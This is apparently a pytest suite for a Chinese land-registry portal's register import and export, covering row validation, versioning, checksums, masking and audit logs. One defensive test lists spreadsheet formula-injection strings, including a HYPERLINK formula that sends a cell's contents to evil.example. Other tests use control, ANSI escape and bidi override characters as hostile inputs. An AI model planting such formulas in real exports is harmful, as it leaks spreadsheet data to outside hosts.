"""The register in and out (docs/register-exchange.md): a generated register of a few thousand
units (every kind of right and restriction, with history) imports from GBK CSV and from XLSX;
every kind of bad row is refused naming file, row and column, and nothing changes; a second
import changes nothing; a changed row becomes a new version; export -> import into an empty
cadastre gives the same checksums; restriction checks on imported units answer right."""

from __future__ import annotations

import copy
import datetime as dt
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import psycopg
import pytest
from account_helpers import bearer, settings_for
from click.testing import CliRunner
from fastapi.testclient import TestClient
from register_exchange import Expected, generate_register

from portal.app import create_app
from portal.cli import main
from portal.platform import migrate
from portal.platform.clock import office_zone
from portal.registry.exchange.exporting import checksums, export_tables, write_tables
from portal.registry.exchange.importing import ImportOutcome, import_register
from portal.registry.exchange.parcels import ParcelPublishing
from portal.registry.exchange.reading import ReadProblem
from portal.surveys.register_parcels import register_publisher

ZONE = office_zone()
UNITS = 3000
Tables = dict[str, list[dict[str, str]]]


@dataclass
class Imported:
    url: str
    tables: Tables
    expected: Expected
    outcome: ImportOutcome
    csv: Path
    xlsx: Path


def _parcels(url: str) -> list[str]:
    with psycopg.connect(url) as conn:
        return [c for (c,) in conn.execute("SELECT parcel_code FROM current_parcels ORDER BY parcel_code")]


def _import(url: str, path: Path, **options: bool) -> ImportOutcome:
    with psycopg.connect(url) as conn:
        return import_register(conn, path, zone=ZONE, actor_user_id=None,
                               parcels=ParcelPublishing(register_publisher()), **options)


def _register_state(url: str) -> tuple[int, ...]:
    with psycopg.connect(url) as conn:
        row = conn.execute("""
            SELECT (SELECT count(*) FROM parties), (SELECT count(*) FROM units), (SELECT count(*) FROM rights),
                   (SELECT count(*) FROM right_holders), (SELECT count(*) FROM restrictions),
                   (SELECT count(*) FROM sources), (SELECT count(*) FROM exchange_ids)""").fetchone()
    assert row is not None
    return tuple(row)


@pytest.fixture(scope="module")
def imported(module_database: str, tmp_path_factory: pytest.TempPathFactory) -> Imported:
    expected = Expected()
    tables = generate_register(_parcels(module_database), units=UNITS, seed=3, expected=expected)
    folder = tmp_path_factory.mktemp("register")
    write_tables(tables, folder / "gbk", encoding="gbk")
    write_tables(tables, folder / "register.xlsx")
    outcome = _import(module_database, folder / "gbk")
    assert not outcome.problems, [str(p) for p in outcome.problems[:5]]
    return Imported(module_database, tables, expected, outcome, folder / "gbk", folder / "register.xlsx")


def test_a_generated_register_imports_from_gbk_csv(imported: Imported) -> None:
    counts = imported.outcome.counts
    assert imported.outcome.committed
    assert "GBK" in set(imported.outcome.encodings.values())  # files of ASCII only read as UTF-8
    assert counts["BDCDY"]["new"] == UNITS
    for table in ("QLR", "QL", "DYAQ", "CFDJ", "YYDJ", "YGDJ"):
        assert counts[table]["new"] == len(imported.tables[table]) > 0, table
    with psycopg.connect(imported.url) as conn:
        kinds = dict(conn.execute(
            "SELECT x.status, count(*) FROM current_restrictions x "
            "JOIN exchange_ids e ON e.object_id = x.restriction_id "
            "AND e.exchange_table IN ('DYAQ', 'CFDJ', 'YYDJ', 'YGDJ') GROUP BY 1").fetchall())
        assert {"active", "queued", "discharged", "released", "cancelled"} <= set(kinds)
        audit = conn.execute("SELECT reference, outcome, detail FROM audit_log WHERE action = 'register_import' "
                             "ORDER BY seq LIMIT 1").fetchone()
    assert audit[0] == imported.outcome.sha256 and audit[1] == "success"


def _geopackage(tables: Tables, path: Path) -> Path:
    """The tables as attribute tables of a GeoPackage, as GDAL writes them."""
    import pandas
    import pyogrio

    for table, rows in tables.items():
        if rows:
            pyogrio.write_dataframe(pandas.DataFrame(rows, dtype=str), path, layer=table, driver="GPKG")
    return path


def test_importing_again_changes_nothing_from_csv_xlsx_or_geopackage(imported: Imported, tmp_path: Path) -> None:
    before = _register_state(imported.url)
    for path in (imported.csv, imported.xlsx, _geopackage(imported.tables, tmp_path / "register.gpkg")):
        outcome = _import(imported.url, path)
        assert not outcome.problems
        assert not outcome.changed_anything, outcome.counts
        assert outcome.counts["BDCDY"]["unchanged"] == UNITS
    assert _register_state(imported.url) == before


def test_history_keeps_its_dates(imported: Imported) -> None:
    """An ended right answers "as of" a day when it was current; a released seizure as of a day
    when it was in effect."""
    ended = next(r for r in imported.tables["QL"] if r["ZXSJ"])
    released = next(r for r in imported.tables["CFDJ"] if r["JFSJ"])
    with psycopg.connect(imported.url) as conn:
        as_of = dt.datetime.fromisoformat(ended["DJSJ"]).replace(tzinfo=ZONE) + dt.timedelta(days=1)
        row = conn.execute(
            "SELECT r.certificate_number FROM rights r JOIN exchange_ids e ON e.exchange_table = 'QL' "
            "AND e.object_id = r.right_id WHERE e.old_id = %s AND r.begin_lifespan <= %s "
            "AND (r.end_lifespan IS NULL OR r.end_lifespan > %s)", (ended["BSM"], as_of, as_of)).fetchone()
        assert row == (ended["BDCQZH"],)
        assert conn.execute("SELECT count(*) FROM current_rights r JOIN exchange_ids e ON e.exchange_table = 'QL' "
                            "AND e.object_id = r.right_id WHERE e.old_id = %s", (ended["BSM"],)).fetchone() == (0,)
        as_of = dt.datetime.fromisoformat(released["DJSJ"]).replace(tzinfo=ZONE) + dt.timedelta(days=1)
        statuses = conn.execute(
            "SELECT x.status, x.version FROM restrictions x JOIN exchange_ids e ON e.exchange_table = 'CFDJ' "
            "AND e.object_id = x.restriction_id WHERE e.old_id = %s ORDER BY x.version", (released["BSM"],)).fetchall()
        assert statuses == [("active", 1), ("released", 2)]


def _broken(tables: Tables, table: str, column: str, value: str, index: int = 0) -> tuple[Tables, dict[str, str]]:
    changed = copy.deepcopy(tables)
    changed[table][index][column] = value
    return changed, changed[table][index]


def _pick(tables: Tables, table: str, **where: str) -> int:
    return next(i for i, row in enumerate(tables[table]) if all(row[k] == v for k, v in where.items()))


def test_every_kind_of_bad_row_is_refused_by_file_row_and_column(imported: Imported, tmp_path: Path) -> None:
    # The first 300 units of the same seeded register: already imported, so only the fault is new.
    t = generate_register(_parcels(imported.url), units=300, seed=3)
    assert t["BDCDY"][299] == imported.tables["BDCDY"][299]
    by_portions = _pick(t, "QL", GYFS="2")
    share_row = _pick(t, "QLRGX", QLBSM=t["QL"][by_portions]["BSM"])
    active_seizure = _pick(t, "CFDJ", ZT="查封")
    second_rank = _pick(t, "DYAQ", DYSW="2")
    cases = [
        ("BDCDY", "BDCDYH", t["BDCDY"][0]["BDCDYH"][:-1] + "X", 0, "BDCDYH"),       # unit number format
        ("BDCDY", "ZDDM", "110101001001GB99999", 0, "ZDDM"),                        # parcel not in the cadastre
        ("QLR", "ZJH", t["QLR"][10]["ZJH"][:-1] + ("0" if t["QLR"][10]["ZJH"][-1] != "0" else "1"), 10, "ZJH"),
        ("QLR", "ZJH", t["QLR"][0]["ZJH"][:-1] + ("A" if t["QLR"][0]["ZJH"][-1] != "A" else "B"), 0, "ZJH"),
        ("QLR", "ZJZL", "42", 0, "ZJZL"),                                           # code list
        ("QL", "GYFS", "9", 0, "GYFS"),
        ("QLRGX", "QLBL", "2/3", share_row, "GYFS"),                                # shares do not add up
        ("QL", "ZXSJ", "2000-01-01 00:00:00", 0, "ZXSJ"),                           # ends before it begins
        ("CFDJ", "LHSX", "2", active_seizure, "LHSX"),                              # one seizure in effect
        ("DYAQ", "DYSW", "1", second_rank, "DYSW"),                                 # mortgage ranks
        ("DYAQ", "BDBZZQSE", "-5", 0, "BDBZZQSE"),
        ("YYDJ", "DJSJ", "yesterday", 0, "DJSJ"),
        ("QLRGX", "QLRBSM", "nobody", 0, "QLRBSM"),                                 # reference
        ("QLR", "QLRMC", "王\x07伟", 0, "QLRMC"),                                  # control character
        ("CFDJ", "CFJG", "法院\x1b[2J", 0, "CFJG"),
    ]
    before = _register_state(imported.url)
    for table, column, value, index, reported in cases:
        tables, row = _broken(t, table, column, value, index)
        folder = tmp_path / f"{table}-{column}-{index}"
        write_tables(tables, folder, encoding="gbk")
        outcome = _import(imported.url, folder)
        assert outcome.problems and not outcome.committed, (table, column)
        problem = outcome.problems[0]
        assert problem.column == reported, (table, column, str(problem))
        assert problem.file.endswith(".csv") and problem.row >= 2, str(problem)
        assert "1101" not in problem.message or table != "QLR", "no identity number in a message"
    # An identity number's place and fault, never the number.
    assert _register_state(imported.url) == before


def test_a_read_problem_names_the_file(imported: Imported, tmp_path: Path) -> None:
    write_tables(imported.tables, tmp_path)
    (tmp_path / "QL.csv").write_text("BSM,BDCDYH,QLLX,GYFS,XYZ\n", encoding="utf-8")
    with pytest.raises(ReadProblem, match="QL.csv: row 1: unknown column XYZ"):
        _import(imported.url, tmp_path)


def test_a_changed_row_becomes_a_new_version_and_clean_units_go_alone(writable_database: str,
                                                                      tmp_path: Path) -> None:
    tables = generate_register(_parcels(writable_database), units=300, seed=5)
    write_tables(tables, tmp_path / "first")
    assert _import(writable_database, tmp_path / "first").committed
    changed, unit = _broken(tables, "BDCDY", "ZL", "北京市东城区新地址1号", 3)
    broken, _ = _broken(changed, "BDCDY", "ZDDM", "110101001001GB99999", 7)
    write_tables(broken, tmp_path / "second")
    refused = _import(writable_database, tmp_path / "second")
    assert not refused.committed and refused.problems[0].row == 9
    partial = _import(writable_database, tmp_path / "second", clean_units_only=True)
    assert partial.committed and partial.skipped_units == [tables["BDCDY"][7]["BDCDYH"]]
    assert partial.counts["BDCDY"] == {"new": 0, "changed": 1, "unchanged": 298}
    with psycopg.connect(writable_database) as conn:
        versions = conn.execute("SELECT version, location, end_lifespan IS NULL FROM units WHERE unit_number = %s "
                                "ORDER BY version", (unit["BDCDYH"],)).fetchall()
    assert [(v, current) for v, _, current in versions] == [(1, False), (2, True)]
    assert versions[-1][1] == "北京市东城区新地址1号"
    # A right and a mortgage that ended in the old system since: their current versions end.
    later = copy.deepcopy(changed)
    right = next(r for r in later["QL"] if not r["ZXSJ"])
    mortgage = next(r for r in later["DYAQ"] if r["ZT"] == "现势")
    right["ZXSJ"] = mortgage["ZXSJ"] = "2026-01-05 10:00:00"
    mortgage["ZT"] = "注销"
    write_tables(later, tmp_path / "third")
    third = _import(writable_database, tmp_path / "third")
    assert third.committed and third.counts["QL"]["changed"] == 1 and third.counts["DYAQ"]["changed"] == 1
    with psycopg.connect(writable_database) as conn:
        ids = dict(conn.execute("SELECT old_id, object_id FROM exchange_ids WHERE old_id = ANY(%s)",
                                ([right["BSM"], mortgage["BSM"]],)).fetchall())
        assert conn.execute("SELECT count(*) FROM rights WHERE right_id = %s AND end_lifespan IS NULL",
                            (ids[right["BSM"]],)).fetchone() == (0,)
        assert conn.execute("SELECT status FROM restrictions WHERE restriction_id = %s ORDER BY version",
                            (ids[mortgage["BSM"]],)).fetchall() == [("active",), ("discharged",)]
    assert not _import(writable_database, tmp_path / "third").changed_anything


def _empty_cadastre(url: str, fresh: str) -> None:
    """A cadastre with the same parcels and no register: migrated, parcels copied."""
    migrate.upgrade(fresh)
    columns = ("parcel_id, version, begin_lifespan, parcel_code, admin_area_code, land_use_code, status, geom, "
               "survey_geom, declared_area, valid_from, valid_to")
    with psycopg.connect(url) as source, psycopg.connect(fresh) as target:
        for table, cols, where in (("admin_areas", "code, name, boundary", ""),
                                   ("parcels", columns, " WHERE end_lifespan IS NULL")):
            query = f"COPY (SELECT {cols} FROM {table}{where}) TO STDOUT"  # noqa: S608
            with source.cursor().copy(query) as out, target.cursor().copy(f"COPY {table} ({cols}) FROM STDIN") as into:
                for data in out:
                    into.write(data)
        target.execute("SELECT setval('parcel_id_seq', (SELECT max(parcel_id) FROM parcels))")
        target.commit()


@pytest.mark.parametrize("target", ["out.xlsx", "out.gpkg"])
def test_export_then_import_into_an_empty_cadastre_gives_the_same_checksums(
        imported: Imported, fresh_database, tmp_path: Path, target: str) -> None:
    with psycopg.connect(imported.url) as conn:
        first = export_tables(conn, ZONE, unmasked=True)
        conn.rollback()
    write_tables(first, tmp_path / target)
    empty = fresh_database()
    _empty_cadastre(imported.url, empty)
    outcome = _import(empty, tmp_path / target)
    assert outcome.committed, [str(p) for p in outcome.problems[:5]]
    with psycopg.connect(empty) as conn:
        second = export_tables(conn, ZONE, unmasked=True)
    assert checksums(second) == checksums(first)
    assert len(second["BDCDY"]) >= UNITS


def test_export_masks_identity_numbers_and_is_audited(imported: Imported, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    runner = CliRunner()
    monkeypatch.setenv("DATABASE_URL", imported.url)
    result = runner.invoke(main, ["register", "export", str(tmp_path / "out"), "--as", "registrar"])
    assert result.exit_code == 0, result.output
    text = (tmp_path / "out" / "QLR.csv").read_text(encoding="utf-8")
    assert imported.tables["QLR"][0]["ZJH"] not in text and "*" in text
    refused = runner.invoke(main, ["register", "export", str(tmp_path / "x"), "--as", "citizen"])
    assert refused.exit_code != 0 and "not an active registrar" in refused.output
    with psycopg.connect(imported.url) as conn:
        row = conn.execute("SELECT actor_role, purpose FROM audit_log WHERE action = 'register_export' "
                           "ORDER BY seq DESC LIMIT 1").fetchone()
    assert row == ("registrar", "masked")


@pytest.fixture(scope="module")
def client(imported: Imported) -> Iterator[TestClient]:
    with TestClient(create_app(settings_for(imported.url)), follow_redirects=False) as test_client:
        yield test_client


def test_restriction_checks_on_imported_units_answer_right(imported: Imported, client: TestClient) -> None:
    headers = bearer(client, "citizen")
    e = imported.expected
    samples = [(sorted(e.mortgaged)[0], "mortgaged"), (sorted(e.seized)[0], "seized"),
               (sorted(e.objected)[0], "under_objection"), (sorted(e.co_owned)[0], "co_owned")]
    for number, flag in samples:
        response = client.get("/api/check", params={"unit_number": number, "purpose": "核查"}, headers=headers)
        assert response.status_code == 200, response.text
        unit = response.json()["units"][0]
        assert unit[flag] is True, (number, flag, unit)
    clean = sorted(e.clean)[0]
    answer = client.get("/api/check", params={"unit_number": clean, "purpose": "核查"}, headers=headers)
    unit = answer.json()["units"][0]
    assert not (unit["mortgaged"] or unit["seized"] or unit["under_objection"] or unit["co_owned"]), unit
    seized = sorted(n for n in e.seized if sum(r["BDCDYH"] == n and r["ZT"] == "轮候" for r in imported.tables["CFDJ"]))
    if seized:
        unit = client.get("/api/check", params={"unit_number": seized[0]}, headers=headers).json()["units"][0]
        assert (unit["seizures_active"], unit["seizures_queued"]) == (1, 1)


def test_the_template_downloads_with_a_sheet_per_table(client: TestClient, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from portal.registry.exchange.layout import TABLE_ORDER, TABLES

    response = client.get("/api/registry/exchange-template.xlsx")
    assert response.status_code == 200
    (tmp_path / "t.xlsx").write_bytes(response.content)
    book = load_workbook(tmp_path / "t.xlsx", read_only=True)
    assert book.sheetnames == list(TABLE_ORDER)
    assert [c.value for c in next(book["QL"].iter_rows(max_row=1))] == list(TABLES["QL"].codes)
    result = CliRunner().invoke(main, ["register", "template", str(tmp_path / "csv")])
    assert result.exit_code == 0 and (tmp_path / "csv" / "CFDJ.csv").read_text().startswith("BSM,BDCDYH,CFJG")


def test_the_command_line_imports_in_a_registrars_name(imported: Imported, tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", imported.url)
    tables = generate_register(_parcels(imported.url), units=300, seed=3)
    write_tables(tables, tmp_path / "ok", encoding="gbk")
    runner = CliRunner()
    dry = runner.invoke(main, ["register", "import", str(tmp_path / "ok"), "--as", "registrar", "--dry-run"])
    assert dry.exit_code == 0 and "dry run: nothing was changed" in dry.output, dry.output
    assert "BDCDY  0 new, 0 changed, 300 unchanged" in dry.output
    tables["QL"][2]["GYFS"] = "7"
    write_tables(tables, tmp_path / "bad", encoding="gbk")
    refused = runner.invoke(main, ["register", "import", str(tmp_path / "bad"), "--as", "registrar"])
    assert refused.exit_code != 0 and "QL.csv: row 4 第4行, column GYFS (共有方式)" in refused.output
    assert "nothing was imported" in refused.output
    stranger = runner.invoke(main, ["register", "import", str(tmp_path / "ok"), "--as", "citizen"])
    assert stranger.exit_code != 0 and "not an active registrar" in stranger.output
    with psycopg.connect(imported.url) as conn:
        rows = conn.execute("SELECT outcome, actor_user_id IS NOT NULL, detail::jsonb -> 'dry_run' FROM audit_log "
                            "WHERE action = 'register_import' ORDER BY seq DESC LIMIT 2").fetchall()
    assert rows == [("refused", True, False), ("success", True, True)]


def test_text_direction_characters_are_refused_in_every_format(imported: Imported, tmp_path: Path) -> None:
    """F3: a bidi override or isolate in a name is refused by file, row and column, from XLSX too."""
    t = generate_register(_parcels(imported.url), units=300, seed=3)
    before = _register_state(imported.url)
    for table, column, value in (("QLR", "QLRMC", "\u202e伟王"), ("BDCDY", "ZL", "东城区\u2066某路"),
                                 ("QL", "DBR", "李\u202a四")):
        tables, _ = _broken(t, table, column, value)
        write_tables(tables, tmp_path / f"{table}.xlsx")
        outcome = _import(imported.url, tmp_path / f"{table}.xlsx")
        assert outcome.problems and not outcome.committed
        problem = outcome.problems[0]
        assert (problem.file, problem.column) == (f"{table}.xlsx[{table}]", column), str(problem)
        assert problem.row == 2 and "U+20" in problem.message
    assert _register_state(imported.url) == before


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+1+1", "-2+3", "@SUM(A1:A9)", "'=quoted",
            "'plain quote", "=1\t", "王伟"]


def test_formulas_are_written_as_text_and_import_back_unchanged(imported: Imported, tmp_path: Path) -> None:
    """F2: no cell of an export is a formula in a spreadsheet (XLSX string cells, CSV quote prefix),
    and the importer reads back exactly what was exported."""
    from openpyxl import load_workbook

    from portal.registry.exchange.reading import read_exchange

    t = generate_register(_parcels(imported.url), units=300, seed=3)
    for index, name in enumerate(FORMULAS):
        t["QLR"][index]["QLRMC"] = name
    write_tables(t, tmp_path / "csv")
    write_tables(t, tmp_path / "book.xlsx")
    raw = (tmp_path / "csv" / "QLR.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in raw and ",'+1+1," in raw and ",'-2+3," in raw and ",'@SUM(A1:A9)," in raw
    assert ",''=quoted," in raw and ",''plain quote," in raw and ",王伟," in raw and ",'=1\t," in raw
    sheet = load_workbook(tmp_path / "book.xlsx")["QLR"]
    names = [row[1] for row in sheet.iter_rows(min_row=2, max_row=len(FORMULAS) + 1)]
    assert all(cell.data_type == "s" for cell in names)
    assert [cell.quotePrefix for cell in names[:5]] == [True] * 5
    for path, file in ((tmp_path / "csv", "QLR.csv"), (tmp_path / "book.xlsx", "book.xlsx[QLR]")):
        rows = read_exchange(path).rows("QLR")
        assert [r.get("QLRMC") for r in rows[:len(FORMULAS)]] == [n.strip() for n in FORMULAS], file
        # And the register takes them as names (a dry run: they would change 8 parties, nothing else).
        outcome = _import(imported.url, path, dry_run=True)
        assert not outcome.problems and outcome.counts["QLR"]["changed"] == len(FORMULAS), file
    # A hand-made CSV's own single quote stays (only the exporter's escape is taken off).
    from portal.registry.exchange.reading import csv_value
    assert csv_value("'O'Brien") == "'O'Brien" and csv_value("''x") == "'x" and csv_value("'=1") == "=1"


def test_an_export_that_cannot_be_written_says_why_and_unmasked_files_are_private(
        writable_database: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """F3 (export side) and F4: a control character already in the register stops an XLSX export
    with a clear message, audited, no file and no traceback; files are the owner's only."""
    monkeypatch.setenv("DATABASE_URL", writable_database)
    runner = CliRunner()
    out = tmp_path / "full"
    done = runner.invoke(main, ["register", "export", str(out), "--as", "registrar", "--unmasked"])
    assert done.exit_code == 0, done.output
    assert out.stat().st_mode & 0o777 == 0o700
    assert {p.stat().st_mode & 0o777 for p in out.iterdir()} == {0o600}
    book = tmp_path / "full.xlsx"
    assert runner.invoke(main, ["register", "export", str(book), "--as", "registrar"]).exit_code == 0
    assert book.stat().st_mode & 0o777 == 0o600
    with psycopg.connect(writable_database) as conn:
        conn.execute("ALTER TABLE parties DISABLE TRIGGER USER")  # as a row written before the import checked
        conn.execute("UPDATE parties SET name = name || E'\\x07' WHERE party_id = (SELECT min(party_id) "
                     "FROM parties WHERE end_lifespan IS NULL)")
        conn.execute("ALTER TABLE parties ENABLE TRIGGER USER")
        conn.commit()
    broken = runner.invoke(main, ["register", "export", str(tmp_path / "broken.xlsx"), "--as", "registrar"])
    assert broken.exit_code == 1 and isinstance(broken.exception, SystemExit), broken.output
    assert "QLR" in broken.output and "QLRMC" in broken.output and "control character" in broken.output
    assert "Traceback" not in broken.output and not (tmp_path / "broken.xlsx").exists()
    with psycopg.connect(writable_database) as conn:
        row = conn.execute("SELECT outcome FROM audit_log WHERE action = 'register_export' "
                           "ORDER BY seq DESC LIMIT 1").fetchone()
    assert row == ("failure",)
